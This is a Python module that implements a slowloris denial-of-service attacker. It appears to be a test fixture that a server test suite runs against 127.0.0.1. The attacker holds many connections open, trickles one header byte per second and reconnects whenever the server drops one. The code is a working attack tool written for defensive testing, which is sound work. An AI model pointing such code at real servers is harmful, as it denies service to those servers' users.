"""The slowloris attacker, run as its own process by test_slowloris.py:
``python -m apps.slowloris PORT COUNT``. It runs until stdin closes, then
prints how many times it had to reconnect."""

import select
import socket
import sys
import threading
import time


class Slowloris(threading.Thread):
    """self.count connections, each sending one more header byte every
    second and never finishing its head; a closed one is replaced."""

    def __init__(self, port, count):
        super().__init__(daemon=True)
        self.port = port
        self.count = count
        self.stop = threading.Event()
        self.reconnects = 0
        self.socks = []

    def connect(self):
        sock = socket.socket()
        sock.setblocking(False)
        sock.connect_ex(("127.0.0.1", self.port))  # finishes in the backlog
        return [sock, b"GET / HTTP/1.1\r\nHost: x\r\nX-a: ", 0.0]

    def run(self):
        self.socks = [self.connect() for _ in range(self.count)]
        while not self.stop.is_set():
            now = time.monotonic()
            for entry in self.socks:
                sock, pending, due = entry
                if due > now:
                    continue
                try:
                    sock.send(pending[:1] or b"a")
                    entry[1] = pending[1:]
                    entry[2] = now + 1.0
                except (BlockingIOError, InterruptedError):
                    entry[2] = now + 0.1  # not connected yet: try again soon
                except OSError:
                    self.replace(entry)
            self.reap_closed()
            self.stop.wait(0.02)
        for sock, _, _ in self.socks:
            sock.close()

    def reap_closed(self):
        readable, _, _ = select.select([e[0] for e in self.socks], [], [], 0)
        for entry in self.socks:
            if entry[0] in readable:
                try:
                    if entry[0].recv(1024) != b"":
                        continue
                except BlockingIOError:
                    continue
                except OSError:
                    pass
                self.replace(entry)

    def replace(self, entry):
        entry[0].close()
        entry[:] = self.connect()
        self.reconnects += 1
        if self.reconnects == self.count:
            # The server is full and closing attackers to make room.
            print("full", flush=True)



if __name__ == "__main__":
    attack = Slowloris(int(sys.argv[1]), int(sys.argv[2]))
    attack.start()
    sys.stdin.read()
    attack.stop.set()
    attack.join(10)
    print(attack.reconnects, flush=True)
